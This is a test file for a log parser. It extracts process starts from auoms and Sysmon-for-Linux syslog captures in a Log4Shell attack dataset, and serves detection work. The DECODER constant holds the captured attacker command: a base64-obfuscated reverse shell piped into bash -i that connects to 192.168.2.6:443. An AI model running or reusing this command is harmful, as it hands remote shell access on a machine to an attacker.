import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createReport } from '../report.js';
import { corpus, hasCorpus } from '../testing/corpus.js';
import { countBy, type ReadResult, readAll, readFileOf } from '../testing/read-all.js';
import { processStarts } from './process-starts.js';

const AUOMS = 'syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip';
const SYSMON = 'syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip';
const DECODER = '{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}';

/** Messages of a read capture that hold a text. */
function messagesWith(read: ReadResult, part: string): number {
  return read.rows('Syslog').filter((row) => String(row.SyslogMessage).includes(part)).length;
}

describe.skipIf(!hasCorpus)('process starts in messages of the corpus', () => {
  test('auoms: the commands that ran, not those that failed to', async () => {
    const read = await readAll([join(corpus, 'otrf', AUOMS)]);
    const rows = read.rows('AuditLog_CL');
    expect(rows).toHaveLength(messagesWith(read, 'success=yes'));
    expect(new Set(rows.map((row) => row.EventType))).toEqual(new Set(['SYSCALL_EXECVE']));
    expect(rows[0]).toMatchObject({
      TimeGenerated: 1_652_292_621_990_000,
      Computer: 'UBUNTU5',
      mssg_id: '1652292621.990:84143',
      exe: '/bin/bash',
      cmdline: `bash -c "${DECODER}"`,
      pid: 17_790,
      ppid: 1340,
      auid: -1,
      uid: 1001,
      ses: -1,
      acct: 'tomcat',
      success: 'yes',
      cwd: '/',
    });
    const started = rows.filter((row) => row.ppid === 17_790);
    expect(countBy(started, (row) => String(row.cmdline))).toMatchObject({ 'bash -i': 1, 'base64 -d': 1 });
    expect(read.sources[0]!.report.assumptions.join()).toContain('AuditLog_CL');
  });

  test('Sysmon for Linux', async () => {
    const read = await readAll([join(corpus, 'otrf', SYSMON)]);
    const rows = read.rows('AuditLog_CL');
    expect(rows).toHaveLength(messagesWith(read, '<EventID>1</EventID>'));
    expect(rows[0]).toMatchObject({
      TimeGenerated: Date.parse('2022-05-11T18:10:21.998Z') * 1000,
      EventType: 'SYSMON_PROCESS_CREATE',
      Computer: 'UBUNTU5',
      exe: '/bin/bash',
      cmdline: `bash -c ${DECODER}`,
      pid: 17_790,
      ppid: 1340,
      uid: 1001,
      ses: -1,
      acct: 'tomcat',
    });
  });
});

describe('process starts in messages', () => {
  test('in a file of syslog as in an export', async () => {
    const xml =
      '<Event><System><Provider Name="Linux-Sysmon" Guid="{1}"/><EventID>1</EventID></System><EventData><Data Name="UtcTime">2024-05-01 10:00:00.5</Data><Data Name="ProcessId">7</Data><Data Name="CommandLine">sh -c &quot;a&quot;</Data></EventData></Event>';
    const read = await readFileOf('syslog', `2024-05-01T10:00:01Z web01 sysmon[1]: ${xml}\n`);
    expect(read.rows('Syslog')[0]!.SyslogMessage).toBe(xml);
    expect(read.rows('AuditLog_CL')).toEqual([
      expect.objectContaining({
        Computer: 'web01',
        pid: 7,
        cmdline: 'sh -c "a"',
        TimeGenerated: 1_714_557_600_500_000,
      }),
    ]);
  });

  test('any text behind their start is read without an error', () => {
    const start = fc.constantFrom(
      'type=AUOMS_EXECVE audit(1.0:1): ',
      'type=AUOMS_EXECVE audit(1.0:1): exe="/x" cmdline="',
      '<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><Data Name="CommandLine">',
    );
    fc.assert(
      fc.property(start, fc.string({ unit: 'binary' }), (before, text) => {
        const columns = [{ name: 'SyslogMessage', type: 'string' } as const];
        const batch = { table: 'Syslog', columns, values: [[before + text]], records: [1] };
        const starts = processStarts(batch, createReport('test'));
        expect(starts?.records ?? [1]).toEqual([1]);
      }),
    );
  });
});
